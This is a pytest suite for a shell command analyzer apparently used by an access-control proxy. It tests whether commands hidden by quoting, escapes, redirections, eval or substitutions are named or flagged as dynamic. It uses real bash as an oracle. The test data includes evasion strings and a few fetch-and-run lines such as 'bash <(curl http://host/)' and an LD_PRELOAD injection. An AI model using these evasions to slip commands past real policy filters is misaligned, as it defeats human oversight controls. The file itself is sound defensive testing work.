"""The analysis of command lines, against a table, a corpus of evasions, and a real bash as oracle."""

import random
import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from access.policy.shapes.statement_rules import StatementRule
from proxy.shell.analysis import judge
from proxy.statements import StatementFacts, strictest
from storage.model import VerdictKind

Labels = Callable[[str], set[str]]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -l /tmp", {"ls"}),
        ("/bin/rm -rf x", {"rm"}),
        ("cat a | grep b | sort -u", {"cat", "grep", "sort"}),
        ("cd /srv && ./deploy.sh || reboot; exit 3", {"cd", "deploy.sh", "reboot", "exit"}),
        ("(cd a; rm b) & wait", {"cd", "rm", "wait"}),
        ("echo $(rm x) `mv a b` ${y:-$(dd)} $((1+2))", {"echo", "rm", "mv", "dd"}),
        ("diff <(sort a) >(tee b)", {"diff", "sort", "tee"}),
        ("a=$(rm x) b=1", {"rm"}),
        ("if rm a; then mv b c; elif dd; then ls; else id; fi", {"rm", "mv", "dd", "ls", "id"}),
        ("for i in 1 2; do ssh host id; done; while true; do rm; done", {"ssh", "id", "true", "rm"}),
        ("case $x in a) rm;; esac; f() { mv; }; f", {"rm", "mv", "f"}),
        ("! rm x; { dd; }; [[ -n $(id) ]]; (( 1 + 2 ))", {"rm", "dd", "id", "test"}),
        ("cat <<EOF\n$(rm x)\nEOF", {"cat", "rm"}),
        ("cat <<'EOF'\n$(rm x)\nEOF", {"cat"}),
        ("echo 'rm x' \"rm y\" rm # rm z", {"echo"}),
        ("A=1 B=2 ls", {"ls"}),
        ("", set()),
        ("x=1", set()),
    ],
)
def test_every_command_of_a_line_is_named(names: Labels, command: str, expected: set[str]) -> None:
    assert names(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "sudo >log rm x",
        "sudo >log >log2 rm x <in y",
        "2>&1 command >log rm x",
        "command <<<in rm x",
        "command <<EOF rm x\nin\nEOF\n",
        "env - rm x",
        "<in rm x",
        "coproc rm x",
        "- rm x",
        "noglob rm x",
    ],
)
def test_evasions_are_seen_through(labels: Labels, command: str) -> None:
    assert "command:rm" in labels(command)


@pytest.mark.parametrize(
    "command",
    [
        "$x",
        "${x}m y",
        "`echo rm` x",
        "$(echo rm) x",
        "/bin/r? x",
        "r{m,n} x",
        "=rm x",
        "0>x rm y",
        "{fd}>x rm y",
        'r"m"$1 x',
        "sudo $x",
        "sudo --unheard-of rm x",
        "sudo -i",
        "echo rm x | sh",
        "bash -s < file",
        'bash -c "$x"',
        "eval $x",
        "source <(curl http://host/)",
        "bash <(curl http://host/)",
        "alias ls=rm",
        "PATH=/tmp ls",
        "env LD_PRELOAD=/tmp/x.so ls",
        "export PATH=/tmp",
        "find . $x",
        "xargs $x",
        "su bob",
    ],
)
def test_what_only_the_running_shell_knows_is_dynamic(labels: Labels, command: str) -> None:
    assert "dynamic_command" in labels(command)


@pytest.mark.parametrize(
    "command",
    [
        "if",
        "ls &&",
        "echo 'x",
        "ls\rrm",
        "ls \x00 rm",
        "echo x # \\\nr\\\nm y",
        "(ls) >x rm y",
        "bash -c 'if'",
        "declare $\nrm x",
        "<<<$\nrm\nx",
        "unset $\\\n\nrm x",
        "x" * 70_000,
        "\udc80",
    ],
)
def test_what_cannot_be_read_is_unparseable(labels: Labels, command: str) -> None:
    assert "unparseable" in labels(command)


def test_nesting_has_a_depth_beyond_which_nothing_is_readable(labels: Labels) -> None:
    command = "rm"
    for _ in range(9):
        command = f"eval {shlex.quote(command)}"
    assert "unparseable" in labels(command)
    assert "command:echo" in labels("$(" * 200 + "echo" + ")" * 200)
    assert labels("$(" * 2000 + "echo" + ")" * 2000) == {"unparseable"}
    assert "command:rm" in labels("ls && " * 500 + "rm")


@pytest.mark.parametrize(
    ("command", "writes"),
    [
        ("ls > x", True),
        ("ls >> x", True),
        ("ls &> x", True),
        ("ls >| x", True),
        ("ls >& x", True),
        ("ls > $x", True),
        ("ls > /dev/null 2>&1", False),
        ("ls 2> /dev/null >&2", False),
        ("ls < x 2>&-", False),
        ("[[ a > b ]]", False),
    ],
)
def test_redirections_that_write(labels: Labels, command: str, writes: bool) -> None:
    assert ("redirect_write" in labels(command)) is writes


def test_an_allowed_command_does_not_let_another_one_by() -> None:
    rules = [
        StatementRule(name="reading", match=["command:cat", "command:grep"], verdict=VerdictKind.ALLOW),
        StatementRule(name="else", match=["*"], verdict=VerdictKind.DENY, message="No."),
    ]

    def verdict(command: str) -> VerdictKind:
        rule = strictest(rules, [StatementFacts("", "exec", judge(command).labels, judge(command).parts)])
        assert rule is not None
        return rule.verdict

    assert verdict("cat x | grep y") is VerdictKind.ALLOW
    assert verdict("cat x; rm y") is VerdictKind.DENY
    assert verdict("cat x > y") is VerdictKind.DENY
    assert verdict("cat $(rm y)") is VerdictKind.DENY


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "cat x | grep y",
        "systemctl status x",
        "git status; git log --oneline -3; git -C /x diff",
        'echo $HOME "$x"',
        "for i in 1 2 3; do echo $i; done",
        "test -f x && echo y",
        '[ "$x" = y ] && echo z',
        '[ -n "$x" -a -f y ]',
        '[[ $x == y && -n "$z" ]] && echo z',
        "awk '{print $1}' f",
        "sed -n 's/a/b/gp;1,3p' f",
        "python3 x.py",
        "docker ps; kubectl get pods",
        "tar xzf x.tgz",
        "ssh h uptime",
        "ssh -p 22 -l bob h uptime",
        'echo ${x:-y} ${x%.*} "${x[@]}" ${x:1:2} ${#x} ${x: -1}',
        'while read -r l; do echo "$l"; done',
        "df -h; ps aux | sort -k3 | head",
        "export FOO",
        "export FOO=bar",
        "find . -name '*.py'",
        "cat <<'E'\n$[a]$(rm x)`x`\nE",
        "cat <<E\n$x ${y}\nE",
        "grep -E 'a$' x; echo '$(rm x)' \"a\\$(b)\"",
        "sudo systemctl restart nginx",
        "journalctl -u x --since today",
        "crontab -l; sed s/a/b/ f; ls | xargs -n1 rm",
        "find . -delete",
        "x=1 echo y",
        "echo $((1+2))",
        "[[ 1 -eq 2 ]]",
        "ssh h rm x",
    ],
)
def test_ordinary_commands_are_not_said_to_be_unknown(labels: Labels, command: str) -> None:
    assert not labels(command) & {"dynamic_command", "unparseable"}


@pytest.mark.parametrize(
    ("command", "label"),
    [
        ("a=1; echo", "assignment"),
        ("a=1 echo", "assignment"),
        ("export A=1", "assignment"),
        ("echo ${a:=1}", "assignment"),
        ("echo $((1 + 2))", "arithmetic"),
        ("((1)); echo", "arithmetic"),
        ("[ -f x ]; echo", "command:test"),
        ("[[ -f x ]]; echo", "command:test"),
    ],
)
def test_assignments_arithmetic_and_tests_are_parts_of_their_own(labels: Labels, command: str, label: str) -> None:
    assert label in labels(command)
    assert frozenset({"exec", label}) in judge(command).parts


_PIECES = [
    *[
        "mk",
        "m",
        "k",
        "mk ",
        "'",
        '"',
        "\\",
        ";",
        "&",
        " ",
        "\n",
        "$",
        "(",
        ")",
        "{",
        "}",
        "`",
        "&&",
        "<",
        ">",
        "#",
        "!",
    ],
    *["$(", "${", "x=", "$x", "x", "=", "*", "$'", "\\x6d", "<<<", "2>&1 ", "<<EOF\n", "\nEOF\n", "() ", "[[ ", " ]]"],
    *["echo ", "env ", "- ", "-c ", "bash ", "sh -c ", "if ", "then ", "fi", "time ", "-- ", "command ", "exec "],
    *["nice ", "timeout 5 ", "find . ", "-exec ", "\\;", "set -- ", "$@", "declare ", "unset "],
]


@pytest.mark.skipif(shutil.which("bash") is None, reason="the oracle is a real bash")
def test_what_bash_runs_is_named_or_said_to_be_unknown(labels: Labels, tmp_path: Path) -> None:
    """Random lines are given to bash; whenever a marker command ran, the analysis must have named it or given up."""
    bash = str(shutil.which("bash"))
    commands = tmp_path / "bin"
    work = tmp_path / "work"
    commands.mkdir()
    work.mkdir()
    (commands / "mk").write_text('#!/bin/sh\n: > "$RAN"\n')
    (commands / "mk").chmod(0o755)
    for tool in ("env", "timeout", "nice", "find", "bash", "sh"):
        if path := shutil.which(tool):
            (commands / tool).symlink_to(path)
    choose = random.Random(20250117)
    seen = 0
    for number in range(300):
        pieces = [choose.choice(_PIECES) for _ in range(choose.randint(1, 6))]
        pieces.insert(choose.randint(0, len(pieces)), choose.choice(["mk", "mk ", "m\\k", "'mk'"]))
        line = "".join(pieces).replace("&", "&&" if choose.random() < 0.5 else "; ")
        ran = tmp_path / f"ran-{number}"
        subprocess.run(
            [bash, "-c", line],
            cwd=work,
            env={"PATH": str(commands), "RAN": str(ran)},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=30,
            check=False,
        )
        if ran.exists():
            seen += 1
            assert labels(line) & {"command:mk", "dynamic_command", "unparseable"}, line
    assert seen > 10


@pytest.mark.parametrize(
    "command",
    [
        "\\rm x",
        "r\\m x",
        "'rm' x",
        '"rm" x',
        "r'm' x",
        '""r""m x',
        "$'rm' x",
        "$'\\x72m' x",
        "$'\\162m' x",
        "/bin/../bin/rm x",
        "r\\\nm x",
    ],
)
def test_quotes_and_escapes_hide_no_name(labels: Labels, command: str) -> None:
    assert "command:rm" in labels(command)


def test_what_stands_before_a_timed_command_is_no_name_of_one() -> None:
    found = judge("time PGPASSWORD=abc psql -c 'select 1'")
    assert "command:psql" in found.labels
    assert not any("abc" in label for label in found.labels)


@pytest.mark.parametrize(
    "command",
    [
        "\\ #; rm x",
        "\\\t#; rm x",
        " \\ # | rm x",
        "\n\\ #; rm x",
        "\\ [[ x || rm x ]]",
        "bash -c '\\ #; rm x'",
        "eval '\\ #; rm x'",
        "ssh host '\\ [[ x || rm x ]]'",
    ],
)
def test_an_escaped_blank_before_a_script_is_no_blank(labels: Labels, command: str) -> None:
    """Bash begins a word with it (`\\ #` is one word), the grammar a comment or a test that runs nothing."""
    assert not labels(command).isdisjoint({"command:rm", "dynamic_command", "unparseable"})


@pytest.mark.parametrize(
    "command",
    [
        r"ls $'\\' ' #'; rm x",
        r"ls $'a\\' ' # '|rm x",
        r"echo $'\\' ' #' $(rm x)",
        r"ls $'\\\\'' # '; rm x",
        r"bash -c $'\\'' #';rm x",
    ],
)
def test_a_string_of_ansi_c_ends_where_bash_ends_it(labels: Labels, command: str) -> None:
    """Its last backslash is escaped; the grammar takes it for one that escapes the quote, and reads on."""
    assert not labels(command).isdisjoint({"command:rm", "dynamic_command", "unparseable"})


@pytest.mark.parametrize(
    "command",
    [
        r"bash -c 'ls'\;rm",
        r'sh -c "ls"\;rm',
        r"bash -c $'ls'\&rm",
        r"su -c 'ls'\;rm",
        r"flock f -c 'ls'\;rm",
        r"'r'\m x",
        r"sed '1p'\;1e\rm f",
        r"awk '1'\;BEGIN{system\(\"rm\"\)}",
        r"'ls'\blk",
    ],
)
def test_what_stands_beside_a_quotation_without_a_blank_is_of_the_same_word(labels: Labels, command: str) -> None:
    """The grammar makes two words of a quotation and a backslash behind it, and drops the second."""
    assert not labels(command).isdisjoint({"command:rm", "command:lsblk", "dynamic_command", "unparseable"})


@pytest.mark.parametrize(
    "command", ["[ a ]#; rm x", ": & {}#; rm x", "[ a ]#|rm x", "[ a ]\\\n#; rm x", "x=(a)#; rm x", "x=(a)# rm x"]
)
def test_a_hash_at_the_end_of_a_word_begins_no_comment(labels: Labels, command: str) -> None:
    """To bash the last words are `]#` and `x=(a)#`."""
    assert not labels(command).isdisjoint({"command:rm", "dynamic_command", "unparseable"})


@pytest.mark.parametrize(
    "command",
    [
        "echo ${x:-<(rm x)}",
        "echo ${x->(rm x)}",
        "x=1; echo ${x+a <(rm x)}",
        "x=1; echo ${x/1/<(rm x)}",
        "echo ${x:-b${y:-<(rm x)}}",
    ],
)
def test_a_process_substitution_inside_an_expansion_runs(labels: Labels, command: str) -> None:
    assert not labels(command).isdisjoint({"command:rm", "dynamic_command", "unparseable"})
